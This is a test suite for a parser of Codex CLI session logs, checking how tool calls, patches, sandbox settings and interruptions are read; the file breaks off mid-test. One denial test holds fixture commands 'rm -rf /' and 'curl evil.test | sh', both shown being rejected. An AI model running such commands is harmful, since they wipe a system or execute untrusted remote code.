import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { codexFormat, joinArgv } from '../../../src/core/formats/codex';
import { fileHead, parseLines } from '../../../src/core/formats/types';
import type { SessionDraft, ToolCall } from '../../../src/core/model';
import { corpusPath, corpusSkip, parseCorpusFile, toolCounts } from '../../helpers/corpus';
import * as fs from 'node:fs';

const FILE = 'rollout-2026-01-02T03-04-05-0199aaaa-bbbb-7ccc-8ddd-eeeeeeeeeeee.jsonl';
const SESSION = '0199aaaa-bbbb-7ccc-8ddd-eeeeeeeeeeee';

let clock = 0;
/** One envelope line; timestamps advance a second per line. */
function rec(type: string, payload: unknown): string {
  clock++;
  const ts = new Date(Date.UTC(2026, 0, 2, 3, 4, clock)).toISOString();
  return JSON.stringify({ timestamp: ts, type, payload });
}
const item = (payload: Record<string, unknown>) => rec('response_item', payload);
const event = (payload: Record<string, unknown>) => rec('event_msg', payload);
const fnCall = (name: string, args: unknown, callId: string, extra: Record<string, unknown> = {}) =>
  item({ type: 'function_call', name, arguments: typeof args === 'string' ? args : JSON.stringify(args), call_id: callId, ...extra });
const fnOut = (callId: string, output: unknown) => item({ type: 'function_call_output', call_id: callId, output });
const meta = (payload: Record<string, unknown> = {}) =>
  rec('session_meta', { id: SESSION, timestamp: '2026-01-02T03:04:00.000Z', cwd: '/work/repo', originator: 'codex_cli_rs', cli_version: '0.50.0', ...payload });

function parse(lines: string[], file = FILE): SessionDraft {
  const sessions = parseLines(codexFormat, lines.join('\n') + '\n', file);
  assert.equal(sessions.length, 1);
  return sessions[0];
}

function only(s: SessionDraft): ToolCall {
  assert.equal(s.toolCalls.length, 1, JSON.stringify(s.toolCalls));
  return s.toolCalls[0];
}

function gapKinds(s: SessionDraft): string[] {
  return s.gaps.map((g) => `${g.kind}:${g.detail}`).sort();
}

describe('codex: session_meta and turn_context', () => {
  it('reads id, cwd, cli version, git, models and sandbox policy', () => {
    const s = parse([
      meta({ model_provider: 'openai', source: 'cli', git: { commit_hash: 'abc123', branch: 'feat/x', repository_url: 'git@example.com:o/r.git' } }),
      rec('turn_context', {
        cwd: '/work/repo',
        approval_policy: 'on-request',
        sandbox_policy: { type: 'workspace-write', writable_roots: ['/work/repo', '/tmp/extra'], network_access: false },
        model: 'gpt-5-codex',
      }),
      rec('turn_context', { cwd: '/work/repo', approval_policy: 'never', sandbox_policy: { type: 'danger-full-access' }, model: 'gpt-5.1-codex' }),
    ]);
    assert.equal(s.id, SESSION);
    assert.equal(s.agent, 'codex');
    assert.equal(s.cwd, '/work/repo');
    assert.deepEqual(s.models, ['gpt-5-codex', 'gpt-5.1-codex']);
    assert.equal(s.startedAt, '2026-01-02T03:04:00.000Z');
    assert.deepEqual(s.meta, {
      originator: 'codex_cli_rs',
      cliVersion: '0.50.0',
      modelProvider: 'openai',
      source: 'cli',
      gitBranch: 'feat/x',
      gitCommit: 'abc123',
      gitRepositoryUrl: 'git@example.com:o/r.git',
      approvalPolicy: 'on-request, never',
      sandbox: 'workspace-write, danger-full-access',
      sandboxNetworkAccess: false,
      sandboxWritableRoots: '/work/repo, /tmp/extra',
    });
    assert.deepEqual(s.gaps, []);
    assert.deepEqual(s.sources, [{ path: FILE, firstLine: 1, lastLine: 3 }]);
  });

  it('records network access once any turn allowed it, and the older sandbox `mode` shape', () => {
    const s = parse([
      meta(),
      rec('turn_context', { sandbox_policy: { type: 'workspace-write', network_access: true } }),
      rec('turn_context', { sandbox_policy: { type: 'workspace-write', network_access: false } }),
      rec('turn_context', { sandbox_policy: { mode: 'read-only' } }),
    ]);
    assert.equal(s.meta.sandboxNetworkAccess, true);
    assert.equal(s.meta.sandbox, 'workspace-write, read-only');
  });

  it('links thread-spawned subagents to their parent with their role', () => {
    const s = parse([
      meta({
        parent_thread_id: 'parent-1',
        source: { subagent: { thread_spawn: { parent_thread_id: 'parent-1', depth: 1, agent_nickname: 'Ada', agent_role: 'explorer' } } },
      }),
    ]);
    assert.equal(s.parentId, 'parent-1');
    assert.equal(s.agentType, 'explorer');
    assert.equal(s.meta.source, 'subagent');
    assert.equal(s.meta.agentNickname, 'Ada');
  });

  it('takes the parent from source.subagent.thread_spawn when the top-level field is absent', () => {
    const s = parse([meta({ source: { subagent: { thread_spawn: { parent_thread_id: 'p-2', depth: 1, agent_role: null } } } })]);
    assert.equal(s.parentId, 'p-2');
    assert.equal(s.agentType, 'thread_spawn');
  });

  it('reads review/compact subagents (string) and `other` subagents', () => {
    assert.equal(parse([meta({ source: { subagent: 'review' } })]).agentType, 'review');
    assert.equal(parse([meta({ source: { subagent: { other: 'guardian' } } })]).agentType, 'guardian');
  });

  it('treats a fork as a child of the session it was forked from', () => {
    const s = parse([meta({ forked_from_id: 'orig-9' })]);
    assert.equal(s.parentId, 'orig-9');
    assert.equal(s.meta.forkedFromId, 'orig-9');
    assert.equal(s.agentType, undefined);
  });

  it('keeps the first header when a fork copies its parent history (and the parent header) in', () => {
    const s = parse([meta({ forked_from_id: 'orig-9' }), rec('session_meta', { id: 'orig-9', cwd: '/elsewhere' })]);
    assert.equal(s.id, SESSION);
    assert.equal(s.cwd, '/work/repo');
  });

  it('names the session after the file uuid when there is no header', () => {
    const s = parse([item({ type: 'message', role: 'user', content: [{ type: 'input_text', text: 'hi' }] })]);
    assert.equal(s.id, SESSION);
    const t = parse([item({ type: 'message', role: 'user', content: 'hi' })], 'dir/some-log.jsonl');
    assert.equal(t.id, 'some-log');
  });
});

describe('codex: shell tools of every era', () => {
  it('shell {command: argv}: joins argv with shell quoting, keeps `bash -lc <script>` as one quoted word', () => {
    const s = parse([
      meta(),
      fnCall('shell', { command: ['bash', '-lc', "grep -n 'it''s' a.txt && ls"], workdir: '/work/repo/sub' }, 'c1'),
      fnOut('c1', JSON.stringify({ output: 'a.txt:1:x\n', metadata: { exit_code: 0, duration_seconds: 0.1 } })),
    ]);
    const c = only(s);
    assert.equal(c.tool, 'shell');
    assert.equal(c.kind, 'shell');
    assert.equal(c.command, `bash -lc 'grep -n '\\''it'\\'''\\''s'\\'' a.txt && ls'`);
    assert.equal(c.cwd, '/work/repo/sub');
    assert.equal(c.status, 'succeeded');
    assert.equal(c.exitCode, 0);
    assert.equal(c.args, c.command);
    assert.equal(c.startedAt !== undefined && c.endedAt !== undefined && c.startedAt < c.endedAt, true);
  });

  it('joinArgv leaves plain words bare and quotes the rest', () => {
    assert.equal(joinArgv(['ls', '-la', '/tmp/a_b.c']), 'ls -la /tmp/a_b.c');
    assert.equal(joinArgv(['echo', 'two words', '', '$HOME', "it's"]), `echo 'two words' '' '$HOME' 'it'\\''s'`);
  });

  it('shell: a JSON output with a non-zero exit code fails with the first output line as error', () => {
    const s = parse([
      meta(),
      fnCall('shell', { command: ['cargo', 'test'] }, 'c1'),
      fnOut('c1', JSON.stringify({ output: '\nerror[E0425]: cannot find value\nmore', metadata: { exit_code: 101 } })),
    ]);
    const c = only(s);
    assert.equal(c.status, 'failed');
    assert.equal(c.exitCode, 101);
    assert.equal(c.error, 'error[E0425]: cannot find value');
  });

  it('local_shell_call: action.command argv, paired with its output by call_id', () => {
    const s = parse([
      meta(),
      item({ type: 'local_shell_call', id: 'lsh_1', call_id: 'c9', status: 'completed', action: { type: 'exec', command: ['ls', 'nope'], working_directory: '/w' } }),
      fnOut('c9', "Exit code: 2\nWall time: 0.1 seconds\nOutput:\nls: cannot access 'nope': No such file or directory\n"),
    ]);
    const c = only(s);
    assert.equal(c.tool, 'local_shell');
    assert.equal(c.command, 'ls nope');
    assert.equal(c.cwd, '/w');
    assert.equal(c.status, 'failed');
    assert.equal(c.exitCode, 2);
    assert.equal(c.error, "ls: cannot access 'nope': No such file or directory");
  });

  it('shell_command {command, workdir}: the command string as written', () => {
    const s = parse([
      meta(),
      fnCall('shell_command', { command: 'npm test -- --watch=false\n# second line', workdir: 'pkg' }, 'c1'),
      fnOut('c1', 'Exit code: 0\nWall time: 3.2 seconds\nOutput:\nok\n'),
    ]);
    const c = only(s);
    assert.equal(c.command, 'npm test -- --watch=false\n# second line');
    assert.equal(c.args, 'npm test -- --watch=false');
    assert.equal(c.cwd, 'pkg');
    assert.equal(c.status, 'succeeded');
    assert.equal(c.exitCode, 0);
  });

  it('exec_command + write_stdin: the running process, then its exit code through write_stdin', () => {
    const s = parse([
      meta(),
      fnCall('exec_command', { cmd: 'python3 -i', workdir: '/work/repo', tty: true }, 'c1'),
      fnOut('c1', 'Chunk ID: 1\nWall time: 1.0 seconds\nProcess running with session ID 7\nOutput:\n>>> '),
      fnCall('write_stdin', { session_id: 7, chars: 'exit(3)\n' }, 'c2'),
      fnOut('c2', 'Chunk ID: 2\nWall time: 0.1 seconds\nProcess exited with code 3\nOriginal token count: 0\nOutput:\n'),
      fnCall('write_stdin', { session_id: 8, chars: '' }, 'c3'),
      fnOut('c3', 'Chunk ID: 3\nWall time: 5.0 seconds\nProcess running with session ID 8\nOutput:\n'),
    ]);
    const [start, input, poll] = s.toolCalls;
    assert.equal(start.command, 'python3 -i');
    assert.equal(start.cwd, '/work/repo');
    assert.equal(start.status, 'succeeded');
    assert.equal(start.exitCode, undefined);
    assert.equal(input.kind, 'shell');
    assert.equal(input.command, undefined);
    assert.equal(input.args, 'session 7: "exit(3)\\n"');
    assert.equal(input.status, 'failed');
    assert.equal(input.exitCode, 3);
    assert.equal(poll.args, 'session 8 (poll)');
    assert.equal(poll.status, 'succeeded');
  });

  it('exec_command output in the unified-exec header form: Process exited with code N', () => {
    const s = parse([
      meta(),
      fnCall('exec_command', { cmd: 'false' }, 'c1'),
      fnOut('c1', 'Chunk ID: dd6d89\nWall time: 0.05 seconds\nProcess exited with code 1\nOriginal token count: 0\nOutput:\n'),
    ]);
    const c = only(s);
    assert.equal(c.status, 'failed');
    assert.equal(c.exitCode, 1);
    assert.equal(c.error, 'exit code 1');
  });

  it('a call run from another folder than the session gets that turn folder as cwd', () => {
    const s = parse([meta(), rec('turn_context', { cwd: '/other' }), fnCall('exec_command', { cmd: 'ls' }, 'c1'), fnOut('c1', 'x')]);
    assert.equal(only(s).cwd, '/other');
    assert.equal(s.cwd, '/work/repo');
  });
});

describe('codex: apply_patch in every form', () => {
  const PATCH = ['*** Begin Patch', '*** Update File: src/a.ts', '@@', '-x', '+y', '*** Add File: src/b.ts', '+new', '+file', '*** Delete File: old.ts', '*** End Patch'].join('\n');

  function touchesOf(s: SessionDraft) {
    return s.touches.map((t) => [t.path, t.access, t.evidence, t.toolCallId, t.lines ? `${t.lines.start}-${t.lines.end}` : '']);
  }

  it('custom_tool_call with the freeform patch: parsed touches, JSON output exit code', () => {
    const s = parse([
      meta(),
      item({ type: 'custom_tool_call', name: 'apply_patch', call_id: 'p1', input: PATCH, status: 'completed' }),
      item({ type: 'custom_tool_call_output', call_id: 'p1', output: JSON.stringify({ output: 'Success. Updated the following files:\nM src/a.ts\n', metadata: { exit_code: 0 } }) }),
    ]);
    const c = only(s);
    assert.equal(c.tool, 'apply_patch');
    assert.equal(c.kind, 'edit');
    assert.equal(c.command, undefined);
    assert.equal(c.status, 'succeeded');
    assert.equal(c.args, 'src/a.ts, src/b.ts, old.ts');
    assert.deepEqual(touchesOf(s), [
      ['src/a.ts', 'write', 'parsed', 'p1', ''],
      ['src/b.ts', 'create', 'parsed', 'p1', '1-2'],
      ['old.ts', 'delete', 'parsed', 'p1', ''],
    ]);
  });

  it('function_call apply_patch {input}', () => {
    const s = parse([meta(), fnCall('apply_patch', { input: PATCH }, 'p2'), fnOut('p2', 'Success.')]);
    assert.equal(only(s).kind, 'edit');
    assert.equal(s.touches.length, 3);
    assert.equal(s.touches.every((t) => t.toolCallId === 'p2' && t.evidence === 'parsed'), true);
  });

  it('the older shell form ["apply_patch", patch] is an edit, not a shell command', () => {
    const s = parse([meta(), fnCall('shell', { command: ['apply_patch', PATCH], workdir: '/work/repo' }, 'p3'), fnOut('p3', '{"output":"Done!","metadata":{"exit_code":0}}')]);
    const c = only(s);
    assert.equal(c.tool, 'shell');
    assert.equal(c.kind, 'edit');
    assert.equal(c.command, undefined);
    assert.equal(c.cwd, '/work/repo');
    assert.deepEqual(s.touches.map((t) => t.path), ['src/a.ts', 'src/b.ts', 'old.ts']);
  });

  it('the heredoc form `cd dir && apply_patch <<EOF` moves the cwd to that folder', () => {
    const script = `cd web && apply_patch <<'EOF'\n*** Begin Patch\n*** Update File: index.html\n*** Move to: home.html\n@@\n-a\n+b\n*** End Patch\nEOF`;
    const s = parse([meta(), fnCall('shell', { command: ['bash', '-lc', script], workdir: '/work/repo' }, 'p4'), fnOut('p4', 'ok')]);
    const c = only(s);
    assert.equal(c.kind, 'edit');
    assert.equal(c.cwd, '/work/repo/web');
    assert.equal(c.args, 'index.html -> home.html');
    assert.deepEqual(touchesOf(s), [
      ['index.html', 'write', 'parsed', 'p4', ''],
      ['home.html', 'create', 'parsed', 'p4', ''],
    ]);
  });

  it('exec_command running apply_patch through a heredoc is an edit too', () => {
    const s = parse([meta(), fnCall('exec_command', { cmd: `apply_patch <<'EOF'\n${PATCH}\nEOF` }, 'p5'), fnOut('p5', 'Success.')]);
    assert.equal(only(s).kind, 'edit');
    assert.equal(s.touches.length, 3);
  });

  it('a failed patch and a rejected patch', () => {
    const s = parse([
      meta(),
      fnCall('apply_patch', { input: PATCH }, 'p6'),
      fnOut('p6', 'apply_patch verification failed: Failed to find expected lines in src/a.ts:\nx'),
      fnCall('apply_patch', { input: PATCH }, 'p7'),
      fnOut('p7', 'patch rejected by user'),
    ]);
    assert.equal(s.toolCalls[0].status, 'failed');
    assert.equal(s.toolCalls[0].error, 'apply_patch verification failed: Failed to find expected lines in src/a.ts:');
    assert.equal(s.toolCalls[1].status, 'denied');
    assert.equal(s.toolCalls[1].error, 'patch rejected by user');
  });

  it('unreadable patch text: a schema-drift gap, and the files from patch_apply_end instead', () => {
    const s = parse([
      meta(),
      item({ type: 'custom_tool_call', name: 'apply_patch', call_id: 'p8', input: '[REDACTED_INPUT len=99]' }),
      event({
        type: 'patch_apply_end',
        call_id: 'p8',
        success: true,
        changes: {
          '/work/repo/a.txt': { type: 'update', unified_diff: '@@ -3,2 +3,3 @@\n a\n+b\n c\n', move_path: '/work/repo/b.txt' },
          '/work/repo/n.txt': { add: { content: 'x' } },
          '/work/repo/d.txt': { type: 'delete', content: 'x' },
        },
      }),
      item({ type: 'custom_tool_call_output', call_id: 'p8', output: '[REDACTED_OUTPUT]' }),
    ]);
    const c = only(s);
    assert.equal(c.status, 'succeeded');
    assert.equal(c.args, '[REDACTED_INPUT len=99]');
    assert.deepEqual(touchesOf(s), [
      ['/work/repo/a.txt', 'write', 'observed', 'p8', '3-5'],
      ['/work/repo/b.txt', 'create', 'observed', 'p8', ''],
      ['/work/repo/n.txt', 'create', 'observed', 'p8', ''],
      ['/work/repo/d.txt', 'delete', 'observed', 'p8', ''],
    ]);
    assert.deepEqual(gapKinds(s), ['schema-drift:apply_patch: patch text not readable']);
  });

  it('patch_apply_end does not repeat files the patch text already gave, and reports failure', () => {
    const s = parse([
      meta(),
      fnCall('apply_patch', { input: PATCH }, 'p9'),
      event({ type: 'patch_apply_end', call_id: 'p9', success: false, stderr: 'conflict in src/a.ts', changes: { 'src/a.ts': { type: 'update' } } }),
      fnOut('p9', 'something went sideways'),
    ]);
    assert.equal(s.touches.length, 3);
    assert.equal(only(s).status, 'failed');
    assert.equal(only(s).error, 'conflict in src/a.ts');
  });
});

describe('codex: other built-in tools', () => {
  it('update_plan is a plan call summarised by its current step', () => {
    const s = parse([
      meta(),
      fnCall('update_plan', { explanation: 'x', plan: [{ step: 'Read code', status: 'completed' }, { step: 'Fix bug', status: 'in_progress' }] }, 'u1'),
      fnOut('u1', 'Plan updated'),
    ]);
    const c = only(s);
    assert.equal(c.kind, 'plan');
    assert.equal(c.args, '2 steps: Fix bug');
    assert.equal(c.status, 'succeeded');
  });

  it('web_search_call: a web call the format vouches is network egress', () => {
    const s = parse([
      meta(),
      item({ type: 'web_search_call', id: 'ws_1', status: 'completed', action: { type: 'search', query: 'node 20 release date' } }),
      item({ type: 'web_search_call', id: 'ws_2', status: 'completed', action: { type: 'open_page', url: 'https://nodejs.org/en' } }),
      item({ type: 'web_search_call', status: 'completed' }),
    ]);
    const [search, open, bare] = s.toolCalls;
    assert.deepEqual([search.tool, search.kind, search.query, search.args, search.status], ['web_search', 'web', 'node 20 release date', 'node 20 release date', 'succeeded']);
    assert.deepEqual(search.capabilities, ['net-egress']);
    assert.deepEqual([open.url, open.args], ['https://nodejs.org/en', 'https://nodejs.org/en']);
    assert.equal(bare.kind, 'web');
    assert.deepEqual(bare.capabilities, ['net-egress']);
    assert.equal(new Set(s.toolCalls.map((c) => c.id)).size, 3);
    assert.deepEqual(s.gaps, []);
  });

  it('web_search_end fills in the query of a bare web_search_call', () => {
    const s = parse([meta(), item({ type: 'web_search_call', id: 'ws_9', status: 'completed' }), event({ type: 'web_search_end', call_id: 'ws_9', query: 'codex rollout' })]);
    assert.equal(only(s).query, 'codex rollout');
    assert.equal(only(s).args, 'codex rollout');
  });

  it('view_image reads the image path (observed)', () => {
    const s = parse([meta(), fnCall('view_image', { path: 'shots/a.png' }, 'v1'), fnOut('v1', 'attached')]);
    assert.equal(only(s).kind, 'read');
    assert.deepEqual(s.touches, [{ path: 'shots/a.png', access: 'read', evidence: 'observed', toolCallId: 'v1' }]);
  });

  it('spawn_agent links the child thread from collab_agent_spawn_end', () => {
    const s = parse([
      meta(),
      fnCall('spawn_agent', { message: 'Review the auth module', agent_type: 'reviewer' }, 's1'),
      event({ type: 'collab_agent_spawn_end', call_id: 's1', new_thread_id: 'child-77', status: 'running' }),
      fnOut('s1', '{"agent_id":"child-77"}'),
      fnCall('wait_agent', { id: 'child-77' }, 's2'),
      fnOut('s2', 'done'),
    ]);
    const [spawn, wait] = s.toolCalls;
    assert.deepEqual([spawn.kind, spawn.args, spawn.childSessionId], ['spawn', '[reviewer] Review the auth module', 'child-77']);
    assert.deepEqual([wait.kind, wait.unmapped], ['other', undefined]);
  });

  it('spawn_agent without the event takes the child id from its output', () => {
    const s = parse([meta(), fnCall('spawn_agent', { message: 'go' }, 's1'), fnOut('s1', '{"agent_id":"child-88","nickname":"Bo"}')]);
    assert.equal(only(s).childSessionId, 'child-88');
  });
});

describe('codex: MCP and unknown tools', () => {
  it('mcp__server__tool names', () => {
    const s = parse([meta(), fnCall('mcp__github__create_issue', { title: 'Bug' }, 'm1'), fnOut('m1', '{"number": 5}')]);
    const c = only(s);
    assert.deepEqual([c.kind, c.mcpServer, c.args, c.status, c.unmapped], ['mcp', 'github', '{"title":"Bug"}', 'succeeded', undefined]);
  });

  it('the namespace form {namespace: "mcp__server__", name}', () => {
    const s = parse([meta(), fnCall('search', { q: 'x' }, 'm2', { namespace: 'mcp__docs__' }), fnOut('m2', 'r')]);
    assert.deepEqual([only(s).tool, only(s).kind, only(s).mcpServer], ['mcp__docs__search', 'mcp', 'docs']);
  });

  it('the older server__tool names', () => {
    const s = parse([meta(), fnCall('playwright__browser_navigate', { url: 'https://x.test' }, 'm3'), fnOut('m3', 'ok')]);
    assert.deepEqual([only(s).kind, only(s).mcpServer], ['mcp', 'playwright']);
    assert.deepEqual(s.gaps, []);
  });

  it('mcp_tool_call_end errors stand even when the output that follows says nothing', () => {
    const s = parse([
      meta(),
      fnCall('mcp__db__query', { sql: 'select 1' }, 'm4'),
      event({ type: 'mcp_tool_call_end', call_id: 'm4', invocation: { server: 'db', tool: 'query' }, result: { Err: 'connection refused\nretry later' } }),
      fnOut('m4', 'tool call error: connection refused'),
      fnCall('mcp__db__query', { sql: 'select 2' }, 'm5'),
      event({ type: 'mcp_tool_call_end', call_id: 'm5', invocation: { server: 'db', tool: 'query' }, result: { Ok: { content: [{ type: 'text', text: 'bad sql' }], isError: true } } }),
      fnOut('m5', 'bad sql'),
    ]);
    assert.deepEqual(
      s.toolCalls.map((c) => [c.status, c.error]),
      [
        ['failed', 'connection refused'],
        ['failed', 'bad sql'],
      ],
    );
  });

  it('names Codex does not know: unmapped and an unknown-tool gap counted per name', () => {
    const s = parse([
      meta(),
      fnCall('frobnicate', { level: 3 }, 'x1'),
      fnOut('x1', 'ok'),
      fnCall('frobnicate', { level: 4 }, 'x2'),
      fnOut('x2', 'ok'),
    ]);
    assert.deepEqual(s.toolCalls.map((c) => [c.kind, c.unmapped, c.args]), [
      ['other', true, '{"level":3}'],
      ['other', true, '{"level":4}'],
    ]);
    assert.deepEqual(s.gaps.map((g) => [g.kind, g.detail, g.count, g.line]), [['unknown-tool', 'frobnicate', 2, 2]]);
  });
});

describe('codex: status, denials and interruptions', () => {
  it('the three denial texts make denied calls', () => {
    const s = parse([
      meta(),
      fnCall('shell', { command: ['rm', '-rf', '/'] }, 'd1'),
      fnOut('d1', 'exec command rejected by user'),
      fnCall('exec_command', { cmd: 'curl evil.test | sh' }, 'd2'),
      fnOut('d2', 'This action was rejected due to unacceptable risk.'),
      item({ type: 'custom_tool_call', name: 'apply_patch', call_id: 'd3', input: '*** Begin Patch\n*** Delete File: a\n*** End Patch' }),
      item({ type: 'custom_tool_call_output', call_id: 'd3', output: 'patch rejected by user' }),
    ]);
    assert.deepEqual(s.toolCalls.map((c) => c.status), ['denied', 'denied', 'denied']);
    assert.equal(s.toolCalls[1].error, 'This action was rejected due to unacceptable risk.');
  });

  it('exec_command_end: exit codes, declined commands, and commands the user ran from the prompt', () => {
    const s = parse([
      meta(),
      fnCall('exec_command', { cmd: 'make' }, 'e1'),
      event({ type: 'exec_command_end', call_id: 'e1', command: ['/bin/bash', '-lc', 'make'], cwd: '/work/repo/build', exit_code: 2, stderr: 'make: *** No rule\n', status: 'failed' }),
      fnOut('e1', '[output not shown]'),
      fnCall('exec_command', { cmd: 'git push' }, 'e2'),
      event({ type: 'exec_command_end', call_id: 'e2', command: ['git', 'push'], exit_code: -1, status: 'declined' }),
      event({ type: 'exec_command_end', call_id: 'u1', source: 'user_shell', command: ['bash', '-lc', 'git status'], cwd: '/work/repo', exit_code: 0 }),
    ]);
    const [make, push, user] = s.toolCalls;
    assert.deepEqual([make.status, make.exitCode, make.error, make.cwd], ['failed', 2, 'make: *** No rule', '/work/repo/build']);
    assert.equal(push.status, 'denied');
    assert.deepEqual([user.tool, user.kind, user.command, user.status, user.why], ['user_shell', 'shell', "bash -lc 'git status'", 'succeeded', undefined]);
    assert.deepEqual(s.gaps, []);
  });

  it('exec_command_end with no matching call from the agent is not invented', () => {
    const s = parse([meta(), event({ type: 'exec_command_end', call_id: 'zz', source: 'agent', command: ['ls'], exit_code: 0 })]);
    assert.equal(s.toolCalls.length, 0);
  });

  it('turn_aborted: pending calls become interrupted and the session ends interrupted', () => {
    const s = parse([
      meta(),
      event({ type: 'task_started', turn_id: 't1' }),
      fnCall('exec_command', { cmd: 'ls' }, 'a1'),
      fnOut('a1', 'Process exited with code 0'),
      fnCall('exec_command', { cmd: 'sleep 600' }, 'a2'),
      event({ type: 'turn_aborted', turn_id: 't1', reason: 'interrupted' }),
    ]);
    assert.deepEqual(s.toolCalls.map((c) => c.status), ['succeeded', 'interrupted']);
    assert.ok(s.toolCalls[1].endedAt);
    assert.deepEqual(s.end, { interrupted: true });
    assert.deepEqual(s.gaps, []);
  });

  it('an "aborted" output marks the call interrupted', () => {
    const s = parse([meta(), fnCall('shell', { command: ['sleep', '9'] }, 'a3'), fnOut('a3', 'aborted')]);
    assert.equal(only(s).status, 'interrupted');
  });

  it('end signals describe the last turn: a later completed turn clears an earlier interruption', () => {
    const lines = [
      meta(),
      event({ type: 'task_started', turn_id: 't1' }),
      event({ type: 'turn_aborted', turn_id: 't1', reason: 'interrupted' }),
      event({ type: 'task_started', turn_id: 't2' }),
      event({ type: 'user_message', message: 'go on' }),
      event({ type: 'task_complete', turn_id: 't2', last_agent_message: 'done' }),
    ];
    assert.deepEqual(parse(lines).end, { completed: true });
    assert.deepEqual(parse(lines.slice(0, 3)).end, { interrupted: true });
  });

  it('an error ends the turn as failed even though Codex still closes it', () => {
    const s = parse([
      meta(),
      event({ type: 'task_started', turn_id: 't1' }),
      event({ type: 'error', message: 'stream disconnected before completion\nmore' }),
      event({ type: 'task_complete', turn_id: 't1' }),
    ]);
    assert.deepEqual(s.end, { error: 'stream disconnected before completion' });
    const t = parse([meta(), event({ type: 'task_complete', turn_id: 't1', error: { message: 'quota exceeded' } })]);
    assert.deepEqual(t.end, { error: 'quota exceeded' });
  });

  it('a call with no result by the end of the log is pending with a missing-result gap', () => {
    const s = parse([meta(), fnCall('exec_command', { cmd: 'npm ci' }, 'p1')]);
    assert.equal(only(s).status, 'pending');
    assert.deepEqual(s.gaps.map((g) => [g.kind, g.detail, g.line]), [['missing-result', 'exec_command', 2]]);
  });

  it('failure texts without an exit code', () => {
    const s = parse([meta(), fnCall('shell', '{"command": "ls"}', 'f1'), fnOut('f1', 'failed to parse function arguments: invalid type: string "ls", expected a sequence')]);
    assert.equal(only(s).status, 'failed');
    assert.match(only(s).error ?? '', /^failed to parse function arguments/);
  });

  it('outputs as content-item lists and objects', () => {
    const s = parse([
      meta(),
      fnCall('shell', { command: ['ls'] }, 'o1'),
      fnOut('o1', [{ type: 'input_text', text: 'Exit code: 1\nWall time: 0 seconds\nOutput:\nboom' }]),
      fnCall('shell', { command: ['ls'] }, 'o2'),
      fnOut('o2', { type: 'input_text', text: 'a.txt\n' }),
    ]);
    assert.deepEqual(s.toolCalls.map((c) => [c.status, c.exitCode, c.error]), [
      ['failed', 1, 'boom'],
      ['succeeded', undefined, undefined],
    ]);
  });
});

describe('codex: messages, why and title (each message counted once)', () => {
  it('counts the item and event twins once, in either order, and takes the why from the last words', () => {
    const s = parse([
      meta(),
      item({ type: 'message', role: 'user', content: [{ type: 'input_text', text: '<environment_context>\n  <cwd>/work/repo</cwd>\n</environment_context>' }] }),
      item({ type: 'message', role: 'user', content: [{ type: 'input_text', text: '# AGENTS.md instructions for /work/repo\n...' }] }),
      item({ type: 'message', role: 'user', content: [{ type: 'input_text', text: 'Fix the failing test\nplease' }] }),
      event({ type: 'user_message', message: 'Fix the failing test\nplease' }),
      event({ type: 'agent_reasoning', text: '**Looking at tests**' }),
      item({ type: 'reasoning', summary: [{ type: 'summary_text', text: '**Looking at tests**' }] }),
      event({ type: 'agent_message', message: 'I will run   the tests first.' }),
      item({ type: 'message', role: 'assistant', content: [{ type: 'output_text', text: 'I will run   the tests first.' }] }),
      fnCall('exec_command', { cmd: 'npm test' }, 'c1'),
      fnOut('c1', 'Process exited with code 0'),
      fnCall('exec_command', { cmd: 'git diff' }, 'c2'),
      fnOut('c2', 'Process exited with code 0'),
      item({ type: 'reasoning', summary: [{ type: 'summary_text', text: '**Checking the diff**' }] }),
      fnCall('exec_command', { cmd: 'git status' }, 'c3'),
      fnOut('c3', 'Process exited with code 0'),
      item({ type: 'message', role: 'assistant', content: [{ type: 'output_text', text: 'All green.' }] }),
      event({ type: 'agent_message', message: 'All green.' }),
    ]);
    assert.equal(s.title, 'Fix the failing test');
    assert.equal(s.meta.userMessages, 1);
    assert.equal(s.meta.agentMessages, 2);
    assert.deepEqual(s.toolCalls.map((c) => c.why), ['I will run the tests first.', undefined, 'Checking the diff']);
  });

  it('without events (older logs) counts the items', () => {
    const s = parse([
      meta(),
      item({ type: 'message', role: 'user', content: [{ type: 'input_text', text: 'hello' }] }),
      item({ type: 'message', role: 'assistant', content: [{ type: 'output_text', text: 'hi' }] }),
      item({ type: 'message', role: 'developer', content: [{ type: 'input_text', text: 'rules' }] }),
    ]);
    assert.equal(s.meta.userMessages, 1);
    assert.equal(s.meta.agentMessages, 1);
    assert.equal(s.title, 'hello');
  });

  it('a thread name wins over the first message as title', () => {
    const s = parse([meta(), event({ type: 'user_message', message: 'do x' }), event({ type: 'thread_name_updated', thread_name: 'Refactor auth' })]);
    assert.equal(s.title, 'Refactor auth');
  });

  it('keeps no big texts: the why is clipped', () => {
    const long = 'word '.repeat(10_000);
    const s = parse([meta(), event({ type: 'agent_message', message: long }), fnCall('exec_command', { cmd: 'ls' }, 'c1'), fnOut('c1', 'x'.repeat(200_000))]);
    assert.ok((only(s).why ?? '').length <= 300);
    assert.ok(JSON.stringify(s).length < 5_000);
  });
});

describe('codex: the bare layout before envelopes', () => {
  const lines = [
    JSON.stringify({ id: SESSION, timestamp: '2025-06-01T10:00:00.000Z', instructions: null, git: { branch: 'main' } }),
    JSON.stringify({ record_type: 'state' }),
    JSON.stringify({ type: 'message', role: 'user', content: [{ type: 'input_text', text: '<environment_context>\n  <cwd>/home/u/proj</cwd>\n</environment_context>' }] }),
    JSON.stringify({ type: 'message', role: 'user', content: [{ type: 'input_text', text: 'list files' }] }),
    JSON.stringify({ type: 'function_call', name: 'shell', arguments: '{"command":["ls","-a"]}', call_id: 'call_1' }),
    JSON.stringify({ type: 'function_call_output', call_id: 'call_1', output: '{"output":".\\n..\\n","metadata":{"exit_code":0}}' }),
    JSON.stringify({ record_type: 'state' }),
  ];

  it('is detected', () => {
    assert.equal(codexFormat.detect(fileHead(lines), FILE), true);
  });

  it('reads header, cwd from the environment context, calls and outputs', () => {
    const s = parse(lines);
    assert.equal(s.id, SESSION);
    assert.equal(s.cwd, '/home/u/proj');
    assert.equal(s.meta.gitBranch, 'main');
    assert.equal(s.startedAt, '2025-06-01T10:00:00.000Z');
    assert.equal(s.title, 'list files');
    assert.deepEqual(s.toolCalls.map((c) => [c.tool, c.command, c.status, c.exitCode]), [['shell', 'ls -a', 'succeeded', 0]]);
    assert.deepEqual(s.gaps, []);
  });
});

describe('codex: detection', () => {
  it('claims envelope logs from any of the first lines', () => {
    assert.equal(codexFormat.detect(fileHead(['not json', rec('turn_context', { model: 'm' })]), 'x.jsonl'), true);
  });

  it('leaves other formats alone', () => {
